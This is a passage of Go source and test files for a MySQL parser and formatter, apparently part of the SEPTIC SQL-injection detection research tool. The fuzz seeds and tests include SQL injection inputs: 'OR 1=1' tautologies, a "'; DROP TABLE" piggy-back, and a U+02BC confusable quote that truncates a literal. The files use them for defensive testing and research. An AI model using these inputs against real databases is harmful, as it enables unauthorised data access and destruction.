			formatExpr(b, c.Default)
		}
	}
	b.WriteString(")")
}

func formatExpr(b *strings.Builder, e Expr) {
	switch x := e.(type) {
	case *Literal:
		formatLiteral(b, x)
	case *ColumnRef:
		if x.Table != "" {
			b.WriteString(x.Table)
			b.WriteString(".")
		}
		b.WriteString(x.Name)
	case *BinaryExpr:
		b.WriteString("(")
		formatExpr(b, x.Left)
		b.WriteString(" ")
		b.WriteString(x.Op)
		b.WriteString(" ")
		formatExpr(b, x.Right)
		b.WriteString(")")
	case *UnaryExpr:
		b.WriteString(x.Op)
		b.WriteString(" ")
		formatExpr(b, x.Operand)
	case *FuncCall:
		b.WriteString(x.Name)
		b.WriteString("(")
		if x.Star {
			b.WriteString("*")
		}
		if x.Distinct {
			b.WriteString("DISTINCT ")
		}
		for i, a := range x.Args {
			if i > 0 {
				b.WriteString(", ")
			}
			formatExpr(b, a)
		}
		b.WriteString(")")
	case *InExpr:
		formatExpr(b, x.Left)
		if x.Not {
			b.WriteString(" NOT")
		}
		b.WriteString(" IN (")
		if x.Subquery != nil {
			formatSelect(b, x.Subquery)
		} else {
			for i, e := range x.List {
				if i > 0 {
					b.WriteString(", ")
				}
				formatExpr(b, e)
			}
		}
		b.WriteString(")")
	case *BetweenExpr:
		formatExpr(b, x.Expr)
		if x.Not {
			b.WriteString(" NOT")
		}
		b.WriteString(" BETWEEN ")
		formatExpr(b, x.Low)
		b.WriteString(" AND ")
		formatExpr(b, x.High)
	case *IsNullExpr:
		formatExpr(b, x.Expr)
		b.WriteString(" IS ")
		if x.Not {
			b.WriteString("NOT ")
		}
		b.WriteString("NULL")
	case *SubqueryExpr:
		b.WriteString("(")
		formatSelect(b, x.Select)
		b.WriteString(")")
	case *ExistsExpr:
		if x.Not {
			b.WriteString("NOT ")
		}
		b.WriteString("EXISTS (")
		formatSelect(b, x.Select)
		b.WriteString(")")
	case *Placeholder:
		b.WriteString("?")
	case *CaseExpr:
		b.WriteString("CASE")
		if x.Operand != nil {
			b.WriteString(" ")
			formatExpr(b, x.Operand)
		}
		for _, w := range x.Whens {
			b.WriteString(" WHEN ")
			formatExpr(b, w.Cond)
			b.WriteString(" THEN ")
			formatExpr(b, w.Result)
		}
		if x.Else != nil {
			b.WriteString(" ELSE ")
			formatExpr(b, x.Else)
		}
		b.WriteString(" END")
	}
}

func formatLiteral(b *strings.Builder, l *Literal) {
	switch l.Kind {
	case LiteralInt:
		b.WriteString(strconv.FormatInt(l.Int, 10))
	case LiteralFloat:
		b.WriteString(strconv.FormatFloat(l.Float, 'g', -1, 64))
	case LiteralString:
		b.WriteString("'")
		b.WriteString(EscapeString(l.Str))
		b.WriteString("'")
	case LiteralBool:
		if l.Bool {
			b.WriteString("TRUE")
		} else {
			b.WriteString("FALSE")
		}
	case LiteralNull:
		b.WriteString("NULL")
	}
}

// EscapeString escapes a string value for inclusion in a single-quoted SQL
// literal, following mysql_real_escape_string's byte-level escape set.
// Note the set deliberately matches the PHP function — including what it
// does NOT escape (multi-byte confusables such as U+02BC), because that
// gap is precisely the semantic mismatch the paper exploits.
func EscapeString(s string) string {
	var b strings.Builder
	b.Grow(len(s) + 8)
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch c {
		case '\'':
			b.WriteString(`\'`)
		case '"':
			b.WriteString(`\"`)
		case '\\':
			b.WriteString(`\\`)
		case 0:
			b.WriteString(`\0`)
		case '\n':
			b.WriteString(`\n`)
		case '\r':
			b.WriteString(`\r`)
		case 0x1a:
			b.WriteString(`\Z`)
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}
