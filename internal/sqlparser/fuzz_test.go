package sqlparser

import "testing"

// fuzzSeeds are the hand-picked starting points for every parser fuzz
// run: the paper's Fig. 2–4 queries, the U+02BC multi-byte trick that
// motivates DecodeCharset, escape/comment edge cases, and some
// deliberately broken inputs. The corpus files under
// testdata/fuzz/FuzzParse add the interesting mutants found so far.
var fuzzSeeds = []string{
	"SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234",
	"SELECT * FROM tickets WHERE reservID = 'ID34FGʼ-- ' AND creditCard = 0",
	"SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0",
	"SELECT name FROM users WHERE id = 1 OR 1=1",
	"INSERT INTO t (a, b) VALUES ('x\\'y', 0x41), (NULL, -2)",
	"UPDATE t SET a = a + 1 WHERE b IN (SELECT c FROM u) -- trailing",
	"DELETE FROM t WHERE a BETWEEN 1 AND 2 /* block */ LIMIT 5",
	"SELECT CASE WHEN a IS NULL THEN 'x' ELSE concat(a, 'y') END FROM t",
	"SELECT * FROM a JOIN b ON a.id = b.id WHERE EXISTS (SELECT 1 FROM c)",
	"CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)",
	"'; DROP TABLE t; --",
	"SELECT '\\0\\n\\t\\\\' # hash comment",
	"sElEcT * fRoM t WhErE a = ''''",
	"",
	"(((((",
	"SELECT",
}

// FuzzParse asserts the parser's crash-freedom and the formatter
// round-trip invariant already pinned by TestFormatRoundTrip: any input
// may be rejected, but never with a panic, and every accepted statement
// must reformat to text the parser accepts again, stably.
func FuzzParse(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, query string) {
		decoded := DecodeCharset(query) // must never panic, any bytes
		stmt, err := Parse(decoded)
		if err != nil {
			return // rejection is fine; panics are what fuzzing hunts
		}
		text := Format(stmt)
		again, err := Parse(text)
		if err != nil {
			t.Fatalf("Format output does not re-parse\n input: %q\nformat: %q\n  err: %v",
				decoded, text, err)
		}
		if stable := Format(again); stable != text {
			t.Fatalf("Format not a fixed point\n first: %q\nsecond: %q", text, stable)
		}
	})
}
