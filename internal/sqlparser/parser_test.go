package sqlparser

import (
	"strings"
	"testing"
)

func mustParse(t *testing.T, q string) Statement {
	t.Helper()
	stmt, err := Parse(q)
	if err != nil {
		t.Fatalf("Parse(%q): %v", q, err)
	}
	return stmt
}

func TestParseSelectBasic(t *testing.T) {
	stmt := mustParse(t, "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
	sel, ok := stmt.(*SelectStmt)
	if !ok {
		t.Fatalf("got %T, want *SelectStmt", stmt)
	}
	if len(sel.Fields) != 1 || !sel.Fields[0].Star {
		t.Errorf("fields = %+v, want [*]", sel.Fields)
	}
	if len(sel.From) != 1 || sel.From[0].Name != "tickets" {
		t.Errorf("from = %+v, want tickets", sel.From)
	}
	and, ok := sel.Where.(*BinaryExpr)
	if !ok || and.Op != "AND" {
		t.Fatalf("where = %+v, want AND", sel.Where)
	}
	left, ok := and.Left.(*BinaryExpr)
	if !ok || left.Op != "=" {
		t.Fatalf("where.left = %+v, want =", and.Left)
	}
	if col, ok := left.Left.(*ColumnRef); !ok || col.Name != "reservID" {
		t.Errorf("where.left.left = %+v, want reservID", left.Left)
	}
	if lit, ok := left.Right.(*Literal); !ok || lit.Kind != LiteralString || lit.Str != "ID34FG" {
		t.Errorf("where.left.right = %+v, want 'ID34FG'", left.Right)
	}
}

func TestParseSelectFieldList(t *testing.T) {
	stmt := mustParse(t, "SELECT id, name AS n, t.email, COUNT(*) total FROM users t")
	sel := stmt.(*SelectStmt)
	if len(sel.Fields) != 4 {
		t.Fatalf("got %d fields, want 4", len(sel.Fields))
	}
	if sel.Fields[1].Alias != "n" {
		t.Errorf("field 1 alias = %q, want n", sel.Fields[1].Alias)
	}
	if col := sel.Fields[2].Expr.(*ColumnRef); col.Table != "t" || col.Name != "email" {
		t.Errorf("field 2 = %+v, want t.email", col)
	}
	fc, ok := sel.Fields[3].Expr.(*FuncCall)
	if !ok || fc.Name != "COUNT" || !fc.Star {
		t.Errorf("field 3 = %+v, want COUNT(*)", sel.Fields[3].Expr)
	}
	if sel.Fields[3].Alias != "total" {
		t.Errorf("field 3 alias = %q, want total (implicit AS)", sel.Fields[3].Alias)
	}
}

func TestParseSelectTableStar(t *testing.T) {
	stmt := mustParse(t, "SELECT u.*, id FROM users u")
	sel := stmt.(*SelectStmt)
	if sel.Fields[0].TableStar != "u" {
		t.Errorf("field 0 = %+v, want u.*", sel.Fields[0])
	}
}

func TestParseOperatorPrecedence(t *testing.T) {
	stmt := mustParse(t, "SELECT 1 WHERE a = 1 OR b = 2 AND c = 3")
	sel := stmt.(*SelectStmt)
	or, ok := sel.Where.(*BinaryExpr)
	if !ok || or.Op != "OR" {
		t.Fatalf("top op = %+v, want OR (AND binds tighter)", sel.Where)
	}
	and, ok := or.Right.(*BinaryExpr)
	if !ok || and.Op != "AND" {
		t.Fatalf("or.right = %+v, want AND", or.Right)
	}
}

func TestParseArithmeticPrecedence(t *testing.T) {
	stmt := mustParse(t, "SELECT 1 + 2 * 3")
	sel := stmt.(*SelectStmt)
	add := sel.Fields[0].Expr.(*BinaryExpr)
	if add.Op != "+" {
		t.Fatalf("top = %q, want +", add.Op)
	}
	mul, ok := add.Right.(*BinaryExpr)
	if !ok || mul.Op != "*" {
		t.Fatalf("right = %+v, want *", add.Right)
	}
}

func TestParseParenthesesOverridePrecedence(t *testing.T) {
	stmt := mustParse(t, "SELECT (1 + 2) * 3")
	sel := stmt.(*SelectStmt)
	mul := sel.Fields[0].Expr.(*BinaryExpr)
	if mul.Op != "*" {
		t.Fatalf("top = %q, want *", mul.Op)
	}
	if add, ok := mul.Left.(*BinaryExpr); !ok || add.Op != "+" {
		t.Fatalf("left = %+v, want +", mul.Left)
	}
}

func TestParseUnaryMinusFoldsIntoLiteral(t *testing.T) {
	stmt := mustParse(t, "SELECT -5, -2.5, -x")
	sel := stmt.(*SelectStmt)
	if lit := sel.Fields[0].Expr.(*Literal); lit.Kind != LiteralInt || lit.Int != -5 {
		t.Errorf("field 0 = %+v, want -5 literal", sel.Fields[0].Expr)
	}
	if lit := sel.Fields[1].Expr.(*Literal); lit.Kind != LiteralFloat || lit.Float != -2.5 {
		t.Errorf("field 1 = %+v, want -2.5 literal", sel.Fields[1].Expr)
	}
	if _, ok := sel.Fields[2].Expr.(*UnaryExpr); !ok {
		t.Errorf("field 2 = %+v, want unary expr", sel.Fields[2].Expr)
	}
}

func TestParseInLikeBetweenIsNull(t *testing.T) {
	stmt := mustParse(t, `SELECT 1 FROM t WHERE a IN (1, 2, 3) AND b NOT IN ('x')
		AND c LIKE '%q%' AND d NOT LIKE 'z' AND e BETWEEN 1 AND 10
		AND f NOT BETWEEN 2 AND 3 AND g IS NULL AND h IS NOT NULL`)
	sel := stmt.(*SelectStmt)
	var (
		ins, likes, betweens, isnulls int
	)
	var walk func(e Expr)
	walk = func(e Expr) {
		switch x := e.(type) {
		case *BinaryExpr:
			if x.Op == "LIKE" {
				likes++
			}
			walk(x.Left)
			walk(x.Right)
		case *UnaryExpr:
			walk(x.Operand)
		case *InExpr:
			ins++
		case *BetweenExpr:
			betweens++
		case *IsNullExpr:
			isnulls++
		}
	}
	walk(sel.Where)
	if ins != 2 || likes != 2 || betweens != 2 || isnulls != 2 {
		t.Errorf("in=%d like=%d between=%d isnull=%d, want 2 each", ins, likes, betweens, isnulls)
	}
}

func TestParseSubqueries(t *testing.T) {
	stmt := mustParse(t, `SELECT * FROM orders WHERE uid IN (SELECT id FROM users WHERE vip = 1)
		AND total > (SELECT AVG(total) FROM orders) AND EXISTS (SELECT 1 FROM audit)`)
	sel := stmt.(*SelectStmt)
	var inSub, scalarSub, existsSub int
	var walk func(e Expr)
	walk = func(e Expr) {
		switch x := e.(type) {
		case *BinaryExpr:
			walk(x.Left)
			walk(x.Right)
		case *InExpr:
			if x.Subquery != nil {
				inSub++
			}
		case *SubqueryExpr:
			scalarSub++
		case *ExistsExpr:
			existsSub++
		}
	}
	walk(sel.Where)
	if inSub != 1 || scalarSub != 1 || existsSub != 1 {
		t.Errorf("inSub=%d scalarSub=%d existsSub=%d, want 1 each", inSub, scalarSub, existsSub)
	}
}

func TestParseDerivedTable(t *testing.T) {
	stmt := mustParse(t, "SELECT n FROM (SELECT name n FROM users) AS sub")
	sel := stmt.(*SelectStmt)
	if sel.From[0].Subquery == nil || sel.From[0].Alias != "sub" {
		t.Fatalf("from = %+v, want derived table aliased sub", sel.From[0])
	}
}

func TestParseJoins(t *testing.T) {
	stmt := mustParse(t, `SELECT * FROM a JOIN b ON a.id = b.aid
		LEFT JOIN c ON b.id = c.bid, d`)
	sel := stmt.(*SelectStmt)
	if len(sel.From) != 4 {
		t.Fatalf("got %d table refs, want 4", len(sel.From))
	}
	if sel.From[1].Join != "INNER" || sel.From[1].On == nil {
		t.Errorf("ref 1 = %+v, want INNER join with ON", sel.From[1])
	}
	if sel.From[2].Join != "LEFT" {
		t.Errorf("ref 2 join = %q, want LEFT", sel.From[2].Join)
	}
	if sel.From[3].Join != "CROSS" {
		t.Errorf("ref 3 join = %q, want CROSS (comma)", sel.From[3].Join)
	}
}

func TestParseGroupByHavingOrderByLimit(t *testing.T) {
	stmt := mustParse(t, `SELECT city, COUNT(*) FROM users GROUP BY city
		HAVING COUNT(*) > 2 ORDER BY city DESC, id LIMIT 10 OFFSET 5`)
	sel := stmt.(*SelectStmt)
	if len(sel.GroupBy) != 1 || sel.Having == nil {
		t.Errorf("group by/having missing: %+v / %+v", sel.GroupBy, sel.Having)
	}
	if len(sel.OrderBy) != 2 || !sel.OrderBy[0].Desc || sel.OrderBy[1].Desc {
		t.Errorf("order by = %+v", sel.OrderBy)
	}
	if sel.Limit == nil || sel.Limit.Offset == nil {
		t.Fatalf("limit = %+v, want count+offset", sel.Limit)
	}
}

func TestParseLimitCommaForm(t *testing.T) {
	stmt := mustParse(t, "SELECT 1 FROM t LIMIT 5, 10")
	sel := stmt.(*SelectStmt)
	if lit := sel.Limit.Count.(*Literal); lit.Int != 10 {
		t.Errorf("count = %+v, want 10", sel.Limit.Count)
	}
	if lit := sel.Limit.Offset.(*Literal); lit.Int != 5 {
		t.Errorf("offset = %+v, want 5", sel.Limit.Offset)
	}
}

func TestParseUnion(t *testing.T) {
	stmt := mustParse(t, "SELECT id FROM a UNION ALL SELECT id FROM b UNION SELECT id FROM c")
	sel := stmt.(*SelectStmt)
	if sel.Union == nil || !sel.Union.All {
		t.Fatalf("first union = %+v, want ALL", sel.Union)
	}
	second := sel.Union.Next
	if second.Union == nil || second.Union.All {
		t.Fatalf("second union = %+v, want DISTINCT", second.Union)
	}
}

func TestParseInsert(t *testing.T) {
	stmt := mustParse(t, "INSERT INTO users (name, age) VALUES ('ann', 31), ('bob', 42)")
	ins := stmt.(*InsertStmt)
	if ins.Table != "users" || len(ins.Columns) != 2 || len(ins.Rows) != 2 {
		t.Fatalf("insert = %+v", ins)
	}
	if lit := ins.Rows[1][0].(*Literal); lit.Str != "bob" {
		t.Errorf("rows[1][0] = %+v, want bob", ins.Rows[1][0])
	}
}

func TestParseInsertSelect(t *testing.T) {
	stmt := mustParse(t, "INSERT INTO archive (id) SELECT id FROM users WHERE old = 1")
	ins := stmt.(*InsertStmt)
	if ins.Select == nil {
		t.Fatal("want INSERT ... SELECT")
	}
}

func TestParseUpdate(t *testing.T) {
	stmt := mustParse(t, "UPDATE users SET name = 'x', age = age + 1 WHERE id = 7 LIMIT 1")
	up := stmt.(*UpdateStmt)
	if up.Table != "users" || len(up.Sets) != 2 || up.Where == nil || up.Limit == nil {
		t.Fatalf("update = %+v", up)
	}
	if up.Sets[0].Column != "name" {
		t.Errorf("set 0 = %+v", up.Sets[0])
	}
}

func TestParseDelete(t *testing.T) {
	stmt := mustParse(t, "DELETE FROM logs WHERE ts < 100 ORDER BY ts LIMIT 50")
	del := stmt.(*DeleteStmt)
	if del.Table != "logs" || del.Where == nil || len(del.OrderBy) != 1 || del.Limit == nil {
		t.Fatalf("delete = %+v", del)
	}
}

func TestParseCreateTable(t *testing.T) {
	stmt := mustParse(t, `CREATE TABLE IF NOT EXISTS users (
		id INT PRIMARY KEY AUTO_INCREMENT,
		name VARCHAR(255) NOT NULL,
		email TEXT UNIQUE,
		age INT DEFAULT 0,
		score DOUBLE,
		active BOOL,
		created DATETIME)`)
	ct := stmt.(*CreateTableStmt)
	if !ct.IfNotExists || ct.Table != "users" || len(ct.Columns) != 7 {
		t.Fatalf("create = %+v", ct)
	}
	id := ct.Columns[0]
	if !id.PrimaryKey || !id.AutoIncrement || id.Type != "INT" {
		t.Errorf("id column = %+v", id)
	}
	if ct.Columns[1].Type != "TEXT" || !ct.Columns[1].NotNull {
		t.Errorf("name column = %+v", ct.Columns[1])
	}
	if ct.Columns[3].Default == nil {
		t.Errorf("age column default missing: %+v", ct.Columns[3])
	}
}

func TestParseDropShowDescribe(t *testing.T) {
	if s := mustParse(t, "DROP TABLE IF EXISTS users").(*DropTableStmt); !s.IfExists || s.Table != "users" {
		t.Errorf("drop = %+v", s)
	}
	if _, ok := mustParse(t, "SHOW TABLES").(*ShowTablesStmt); !ok {
		t.Error("SHOW TABLES failed")
	}
	if s := mustParse(t, "DESCRIBE users").(*DescribeStmt); s.Table != "users" {
		t.Errorf("describe = %+v", s)
	}
}

func TestParseAttachesComments(t *testing.T) {
	stmt := mustParse(t, "/* app:login:42 */ SELECT 1")
	got := stmt.StatementComments()
	if len(got) != 1 || got[0] != "app:login:42" {
		t.Errorf("comments = %v, want [app:login:42]", got)
	}
}

func TestParseAllMultipleStatements(t *testing.T) {
	stmts, err := ParseAll("SELECT 1; SELECT 2; DELETE FROM t")
	if err != nil {
		t.Fatalf("ParseAll: %v", err)
	}
	if len(stmts) != 3 {
		t.Fatalf("got %d statements, want 3", len(stmts))
	}
}

func TestParseRejectsMultipleStatements(t *testing.T) {
	// mysql_query semantics: piggy-backed statements are a parse error
	// for the single-statement API.
	_, err := Parse("SELECT 1; DROP TABLE users")
	if err == nil {
		t.Fatal("Parse must reject piggy-backed statements")
	}
}

func TestParseDecodesCharsetBeforeLexing(t *testing.T) {
	// The U+02BC quote becomes a live quote at parse time: the string
	// literal ends early and "-- " comments out the remainder, exactly
	// as in the paper's second-order example.
	stmt := mustParse(t, "SELECT * FROM tickets WHERE reservID = 'ID34FGʼ-- ' AND creditCard = 0")
	sel := stmt.(*SelectStmt)
	eq, ok := sel.Where.(*BinaryExpr)
	if !ok || eq.Op != "=" {
		t.Fatalf("where = %+v, want plain equality (rest commented out)", sel.Where)
	}
	lit, ok := eq.Right.(*Literal)
	if !ok || lit.Str != "ID34FG" {
		t.Fatalf("right = %+v, want truncated string ID34FG", eq.Right)
	}
}

func TestParseErrors(t *testing.T) {
	bad := []string{
		"",
		"   ",
		"SELEC 1",
		"SELECT FROM",
		"SELECT * FROM",
		"INSERT users VALUES (1)",
		"UPDATE SET a = 1",
		"DELETE users",
		"CREATE TABLE t",
		"CREATE TABLE t (a BLOB)",
		"SELECT * FROM t WHERE",
		"SELECT * FROM t WHERE a = ",
		"SELECT (1",
		"SELECT 'unterminated",
		"SELECT * FROM t WHERE a NOT 5",
	}
	for _, q := range bad {
		if _, err := Parse(q); err == nil {
			t.Errorf("Parse(%q) succeeded, want error", q)
		}
	}
}

func TestFormatRoundTrip(t *testing.T) {
	queries := []string{
		"SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234",
		"SELECT DISTINCT id, name AS n FROM users WHERE age > 18 ORDER BY name DESC LIMIT 10",
		"INSERT INTO users (name, age) VALUES ('ann', 31)",
		"UPDATE users SET age = 32 WHERE name = 'ann'",
		"DELETE FROM logs WHERE ts < 100",
		"SELECT a FROM t WHERE b IN (1, 2) AND c LIKE '%x%'",
		"SELECT id FROM a UNION ALL SELECT id FROM b",
		"SELECT x FROM t WHERE y BETWEEN 1 AND 2 OR z IS NOT NULL",
		"SELECT COUNT(*) FROM t GROUP BY city HAVING COUNT(*) > 1",
		"CREATE TABLE t (id INT PRIMARY KEY, s TEXT)",
		"SELECT * FROM a JOIN b ON a.id = b.aid",
		"SELECT u.*, id FROM users AS u",
		"SELECT COUNT(DISTINCT x) FROM t",
		"SELECT a FROM t WHERE EXISTS (SELECT 1 FROM u)",
		"SELECT a FROM t WHERE x IN (SELECT y FROM u)",
		"SELECT a FROM t WHERE x NOT IN (1, 2)",
		"SELECT n FROM (SELECT a AS n FROM t) AS d",
		"SELECT * FROM a LEFT JOIN b ON a.id = b.aid",
		"INSERT INTO t VALUES (1, 'x'), (2, 'y')",
		"INSERT INTO archive (id) SELECT id FROM t WHERE old = 1",
		"UPDATE t SET a = a + 1 WHERE b = 2 ORDER BY c LIMIT 3",
		"DELETE FROM t WHERE a = 1 ORDER BY b DESC LIMIT 2",
		"DROP TABLE IF EXISTS t",
		"SHOW TABLES",
		"DESCRIBE t",
		"CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, n TEXT UNIQUE NOT NULL, v INT DEFAULT 0)",
		"SELECT - x FROM t",
		"SELECT NOT a FROM t",
		"SELECT NULL, TRUE, FALSE",
		"SELECT a FROM t LIMIT 5 OFFSET 2",
		"SELECT 1 XOR 0",
		"SELECT a FROM t WHERE s LIKE '%it''s%'",
		"EXPLAIN SELECT a FROM t WHERE b = 1",
		"SELECT CASE WHEN a > 1 THEN 'hi' ELSE 'lo' END FROM t",
		"SELECT CASE a WHEN 1 THEN 'one' WHEN 2 THEN 'two' END FROM t",
		"SELECT x FROM t ORDER BY CASE WHEN y = 1 THEN a ELSE b END",
	}
	for _, q := range queries {
		stmt1, err := Parse(q)
		if err != nil {
			t.Fatalf("Parse(%q): %v", q, err)
		}
		text := Format(stmt1)
		stmt2, err := Parse(text)
		if err != nil {
			t.Fatalf("reparse of %q (from %q): %v", text, q, err)
		}
		if Format(stmt2) != text {
			t.Errorf("format not stable: %q -> %q", text, Format(stmt2))
		}
	}
}

func TestFormatEscapesStrings(t *testing.T) {
	stmt := mustParse(t, `SELECT 'a\'b'`)
	text := Format(stmt)
	if !strings.Contains(text, `\'`) {
		t.Errorf("Format should re-escape quote: %q", text)
	}
}
