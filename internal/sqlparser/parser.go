package sqlparser

import (
	"fmt"
	"strconv"
	"strings"
)

// Parser is a recursive-descent parser over the token stream produced by
// Lexer. It implements the subset of MySQL's grammar needed by the engine
// and by SEPTIC's query-structure extraction: SELECT (joins, subqueries,
// UNION, GROUP BY/HAVING/ORDER BY/LIMIT), INSERT, UPDATE, DELETE,
// CREATE/DROP TABLE, SHOW TABLES and DESCRIBE.
type Parser struct {
	lexer *Lexer
	tok   Token
	// pending comments seen since the previous statement boundary.
	comments []string
}

// Parse decodes, lexes and parses a single SQL statement. It fails if more
// than one statement is present — matching the single-statement API of
// mysql_query, which is why classic piggy-backed injections ("; DROP
// TABLE ...") fail against MySQL and are not SEPTIC's main concern.
func Parse(query string) (Statement, error) {
	stmts, err := ParseAll(query)
	if err != nil {
		return nil, err
	}
	if len(stmts) != 1 {
		return nil, fmt.Errorf("expected a single statement, got %d", len(stmts))
	}
	return stmts[0], nil
}

// ParseAll decodes, lexes and parses a semicolon-separated script.
func ParseAll(query string) ([]Statement, error) {
	decoded := DecodeCharset(query)
	p := &Parser{lexer: NewLexer(decoded)}
	if err := p.advance(); err != nil {
		return nil, err
	}
	var stmts []Statement
	for p.tok.Kind != TokenEOF {
		stmt, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		stmts = append(stmts, stmt)
		for p.tok.Kind == TokenSemicolon {
			if err := p.advance(); err != nil {
				return nil, err
			}
		}
	}
	if len(stmts) == 0 {
		return nil, p.errorf("empty statement")
	}
	return stmts, nil
}

// advance moves to the next non-comment token, collecting comment bodies.
func (p *Parser) advance() error {
	for {
		t, err := p.lexer.Next()
		if err != nil {
			return err
		}
		if t.Kind == TokenComment {
			p.comments = append(p.comments, t.Text)
			continue
		}
		p.tok = t
		return nil
	}
}

func (p *Parser) errorf(format string, args ...any) error {
	return &SyntaxError{Pos: p.tok.Pos, Msg: fmt.Sprintf(format, args...)}
}

// takeComments returns and clears the pending comments.
func (p *Parser) takeComments() []string {
	c := p.comments
	p.comments = nil
	return c
}

func (p *Parser) atKeyword(kw string) bool {
	return p.tok.Kind == TokenKeyword && p.tok.Text == kw
}

// acceptKeyword consumes kw if present and reports whether it did.
func (p *Parser) acceptKeyword(kw string) (bool, error) {
	if !p.atKeyword(kw) {
		return false, nil
	}
	return true, p.advance()
}

func (p *Parser) expectKeyword(kw string) error {
	if !p.atKeyword(kw) {
		return p.errorf("expected %s, found %s %q", kw, p.tok.Kind, p.tok.Text)
	}
	return p.advance()
}

func (p *Parser) expect(kind TokenKind) (Token, error) {
	if p.tok.Kind != kind {
		return Token{}, p.errorf("expected %s, found %s %q", kind, p.tok.Kind, p.tok.Text)
	}
	t := p.tok
	return t, p.advance()
}

// expectIdent accepts an identifier, also tolerating non-reserved keywords
// used as names (MySQL allows e.g. a column called "key" when quoted; we
// are more permissive for type-name keywords).
func (p *Parser) expectIdent() (string, error) {
	if p.tok.Kind == TokenIdent {
		name := p.tok.Text
		return name, p.advance()
	}
	if p.tok.Kind == TokenKeyword {
		switch p.tok.Text {
		case "KEY", "DATETIME", "TEXT", "ALL", "SET", "SHOW", "TABLES":
			name := p.tok.Text
			return strings.ToLower(name), p.advance()
		}
	}
	return "", p.errorf("expected identifier, found %s %q", p.tok.Kind, p.tok.Text)
}

func (p *Parser) parseStatement() (Statement, error) {
	if p.tok.Kind != TokenKeyword {
		return nil, p.errorf("expected statement keyword, found %s %q", p.tok.Kind, p.tok.Text)
	}
	switch p.tok.Text {
	case "SELECT":
		return p.parseSelect()
	case "INSERT":
		return p.parseInsert()
	case "UPDATE":
		return p.parseUpdate()
	case "DELETE":
		return p.parseDelete()
	case "CREATE":
		return p.parseCreateTable()
	case "DROP":
		return p.parseDropTable()
	case "SHOW":
		return p.parseShowTables()
	case "DESCRIBE":
		return p.parseDescribe()
	case "EXPLAIN":
		return p.parseExplain()
	default:
		return nil, p.errorf("unsupported statement %q", p.tok.Text)
	}
}

func (p *Parser) parseSelect() (*SelectStmt, error) {
	comments := p.takeComments()
	if err := p.expectKeyword("SELECT"); err != nil {
		return nil, err
	}
	stmt := &SelectStmt{commentHolder: commentHolder{Comments: comments}}

	if ok, err := p.acceptKeyword("DISTINCT"); err != nil {
		return nil, err
	} else if ok {
		stmt.Distinct = true
	} else if _, err := p.acceptKeyword("ALL"); err != nil {
		return nil, err
	}

	fields, err := p.parseSelectFields()
	if err != nil {
		return nil, err
	}
	stmt.Fields = fields

	if ok, err := p.acceptKeyword("FROM"); err != nil {
		return nil, err
	} else if ok {
		from, err := p.parseTableRefs()
		if err != nil {
			return nil, err
		}
		stmt.From = from
	}

	if ok, err := p.acceptKeyword("WHERE"); err != nil {
		return nil, err
	} else if ok {
		where, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		stmt.Where = where
	}

	if p.atKeyword("GROUP") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		if err := p.expectKeyword("BY"); err != nil {
			return nil, err
		}
		for {
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			stmt.GroupBy = append(stmt.GroupBy, e)
			if p.tok.Kind != TokenComma {
				break
			}
			if err := p.advance(); err != nil {
				return nil, err
			}
		}
	}

	if ok, err := p.acceptKeyword("HAVING"); err != nil {
		return nil, err
	} else if ok {
		having, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		stmt.Having = having
	}

	orderBy, err := p.parseOrderBy()
	if err != nil {
		return nil, err
	}
	stmt.OrderBy = orderBy

	limit, err := p.parseLimit()
	if err != nil {
		return nil, err
	}
	stmt.Limit = limit

	if p.atKeyword("UNION") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		all, err := p.acceptKeyword("ALL")
		if err != nil {
			return nil, err
		}
		if !all {
			if _, err := p.acceptKeyword("DISTINCT"); err != nil {
				return nil, err
			}
		}
		next, err := p.parseSelect()
		if err != nil {
			return nil, err
		}
		stmt.Union = &UnionClause{All: all, Next: next}
	}
	return stmt, nil
}

func (p *Parser) parseSelectFields() ([]SelectField, error) {
	var fields []SelectField
	for {
		f, err := p.parseSelectField()
		if err != nil {
			return nil, err
		}
		fields = append(fields, f)
		if p.tok.Kind != TokenComma {
			return fields, nil
		}
		if err := p.advance(); err != nil {
			return nil, err
		}
	}
}

func (p *Parser) parseSelectField() (SelectField, error) {
	if p.tok.Kind == TokenOperator && p.tok.Text == "*" {
		if err := p.advance(); err != nil {
			return SelectField{}, err
		}
		return SelectField{Star: true}, nil
	}
	// Lookahead for "ident.*".
	if p.tok.Kind == TokenIdent {
		name := p.tok.Text
		save := *p.lexer
		saveTok := p.tok
		if err := p.advance(); err != nil {
			return SelectField{}, err
		}
		if p.tok.Kind == TokenDot {
			if err := p.advance(); err != nil {
				return SelectField{}, err
			}
			if p.tok.Kind == TokenOperator && p.tok.Text == "*" {
				if err := p.advance(); err != nil {
					return SelectField{}, err
				}
				return SelectField{TableStar: name}, nil
			}
			// Not a ".*": rewind and parse as a normal expression.
			*p.lexer = save
			p.tok = saveTok
		} else {
			*p.lexer = save
			p.tok = saveTok
		}
	}
	expr, err := p.parseExpr()
	if err != nil {
		return SelectField{}, err
	}
	field := SelectField{Expr: expr}
	if ok, err := p.acceptKeyword("AS"); err != nil {
		return SelectField{}, err
	} else if ok {
		alias, err := p.expectIdent()
		if err != nil {
			return SelectField{}, err
		}
		field.Alias = alias
	} else if p.tok.Kind == TokenIdent {
		field.Alias = p.tok.Text
		if err := p.advance(); err != nil {
			return SelectField{}, err
		}
	}
	return field, nil
}

func (p *Parser) parseTableRefs() ([]TableRef, error) {
	first, err := p.parseTableRef("")
	if err != nil {
		return nil, err
	}
	refs := []TableRef{first}
	for {
		switch {
		case p.tok.Kind == TokenComma:
			if err := p.advance(); err != nil {
				return nil, err
			}
			ref, err := p.parseTableRef("CROSS")
			if err != nil {
				return nil, err
			}
			refs = append(refs, ref)
